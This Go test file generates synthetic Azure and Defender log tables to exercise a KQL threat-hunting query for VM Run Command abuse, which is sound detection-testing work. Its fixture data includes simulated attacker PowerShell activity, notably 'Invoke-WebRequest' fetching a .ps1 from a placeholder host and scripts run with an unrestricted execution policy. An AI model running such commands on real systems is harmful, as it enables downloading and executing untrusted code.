package kql

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// Synthetic logs in the shape of the three tables the seed hunt ("Azure VM Run
// Command linked with MDE") reads. Each run command k targets vm-<k % vms>,
// takes three AzureActivity events (Started, Accepted, Succeeded - every
// tenth fails), writes script<k>.ps1 through RunCommandExtension.exe on that
// VM, and runs three PowerShell commands from it. The rest of each table is
// unrelated noise. Script names are unique and each VM hosts few commands,
// so the joins stay linear in the table size.

var huntStart = time.Date(2024, 3, 1, 8, 0, 0, 0, time.UTC)

// huntCommands are the commands each script runs, in order.
var huntCommands = []string{"Get-Process", "Get-LocalUser", "Invoke-WebRequest -Uri http://example.test/a.ps1"}

func loadTestSchemas(tb testing.TB) map[string][]Column {
	tb.Helper()
	schemas, err := LoadSchemas(filepath.Join("..", "..", "testdata", "schemas"))
	if err != nil {
		tb.Fatal(err)
	}
	return schemas
}

func seedQuery(tb testing.TB) string {
	tb.Helper()
	q, err := os.ReadFile(filepath.Join("..", "..", "testdata", "kql", "azure_vm_run_command.kql"))
	if err != nil {
		tb.Fatal(err)
	}
	return string(q)
}

// newRow builds a row of the schema: strings empty, everything else null.
func newRow(cols []Column, values map[string]any) []any {
	row := make([]any, len(cols))
	for i, c := range cols {
		if c.Type == "string" || c.Type == "guid" {
			row[i] = ""
		}
		if v, ok := values[c.Name]; ok {
			row[i] = v
		}
	}
	return row
}

// runCommandLogs returns rows rows for each table; rows/4 run commands.
func runCommandLogs(schemas map[string][]Column, rows int) Database {
	commands := max(rows/4, 1)
	vms := max(commands/3, 1)
	aa := &Table{Name: "AzureActivity", Columns: schemas["AzureActivity"]}
	dfe := &Table{Name: "DeviceFileEvents", Columns: schemas["DeviceFileEvents"]}
	de := &Table{Name: "DeviceEvents", Columns: schemas["DeviceEvents"]}
	for k := 0; k < commands; k++ {
		vm := fmt.Sprintf("vm-%05d", k%vms)
		sub := fmt.Sprintf("%08d-0000-4000-8000-000000000000", k%7)
		rg := fmt.Sprintf("rg-%d", k%13)
		start := huntStart.Add(time.Duration(k) * time.Minute)
		auth := fmt.Sprintf(`{"action":"Microsoft.Compute/virtualMachines/runCommand/action","scope":"/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Compute/virtualMachines/%s"}`, sub, rg, vm)
		final := "Succeeded"
		if k%10 == 9 {
			final = "Failed"
		}
		for i, status := range []string{"Started", "Accepted", final} {
			aa.Rows = append(aa.Rows, newRow(aa.Columns, map[string]any{
				"TimeGenerated":       start.Add(time.Duration(i*30) * time.Second),
				"OperationNameValue":  "Microsoft.Compute/virtualMachines/runCommand/action",
				"ActivityStatusValue": status,
				"Authorization":       auth,
				"CorrelationId":       fmt.Sprintf("corr-%d", k),
				"Caller":              fmt.Sprintf("user%d@contoso.com", k%50),
				"CallerIpAddress":     fmt.Sprintf("10.0.%d.%d", k%200, k%250),
				"SubscriptionId":      sub,
				"ResourceGroup":       rg,
				"Type":                "AzureActivity",
			}))
		}
		script := fmt.Sprintf("script%d.ps1", k)
		dfe.Rows = append(dfe.Rows, newRow(dfe.Columns, map[string]any{
			"TimeGenerated":                  start.Add(10 * time.Second),
			"Timestamp":                      start.Add(10 * time.Second),
			"ActionType":                     "FileCreated",
			"DeviceName":                     vm + ".contoso.local",
			"FileName":                       script,
			"FileSize":                       int64(1000 + k%500),
			"FolderPath":                     `C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads\` + script,
			"InitiatingProcessFileName":      "RunCommandExtension.exe",
			"InitiatingProcessAccountName":   "system",
			"InitiatingProcessAccountDomain": "nt authority",
			"InitiatingProcessFolderPath":    `c:\packages\plugins\microsoft.cplat.core.runcommandwindows\1.1.15\bin\runcommandextension.exe`,
			"InitiatingProcessId":            int64(4000 + k%1000),
		}))
		cmdline := "powershell -ExecutionPolicy Unrestricted -File " + script
		for i, command := range append([]string{script}, huntCommands...) {
			de.Rows = append(de.Rows, newRow(de.Columns, map[string]any{
				"TimeGenerated":                start.Add(time.Duration(15+i) * time.Second),
				"Timestamp":                    start.Add(time.Duration(15+i) * time.Second),
				"ActionType":                   "PowerShellCommand",
				"DeviceName":                   vm + ".contoso.local",
				"AdditionalFields":             map[string]any{"Command": command},
				"InitiatingProcessCommandLine": cmdline,
				"InitiatingProcessFileName":    "powershell.exe",
			}))
		}
	}
	for n := 0; len(aa.Rows) < rows; n++ {
		aa.Rows = append(aa.Rows, newRow(aa.Columns, map[string]any{
			"TimeGenerated":       huntStart.Add(time.Duration(n) * time.Second),
			"OperationNameValue":  "Microsoft.Compute/virtualMachines/write",
			"ActivityStatusValue": "Succeeded",
			"Authorization":       fmt.Sprintf(`{"action":"Microsoft.Compute/virtualMachines/write","scope":"/subscriptions/x/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/other-%d"}`, n),
			"CorrelationId":       fmt.Sprintf("noise-%d", n),
			"Caller":              "automation@contoso.com",
		}))
	}
	for n := 0; len(dfe.Rows) < rows; n++ {
		dfe.Rows = append(dfe.Rows, newRow(dfe.Columns, map[string]any{
			"TimeGenerated":             huntStart.Add(time.Duration(n) * time.Second),
			"ActionType":                "FileModified",
			"DeviceName":                fmt.Sprintf("ws-%05d.contoso.local", n%5000),
			"FileName":                  fmt.Sprintf("report%d.docx", n),
			"InitiatingProcessFileName": "WINWORD.EXE",
		}))
	}
	for n := 0; len(de.Rows) < rows; n++ {
		de.Rows = append(de.Rows, newRow(de.Columns, map[string]any{
			"TimeGenerated":                huntStart.Add(time.Duration(n) * time.Second),
			"ActionType":                   "ProcessCreated",
			"DeviceName":                   fmt.Sprintf("ws-%05d.contoso.local", n%5000),
			"AdditionalFields":             map[string]any{"ProcessName": "notepad.exe"},
			"InitiatingProcessCommandLine": `"C:\Windows\explorer.exe" /factory`,
		}))
	}
	return Database{aa.Name: aa, dfe.Name: dfe, de.Name: de}
}
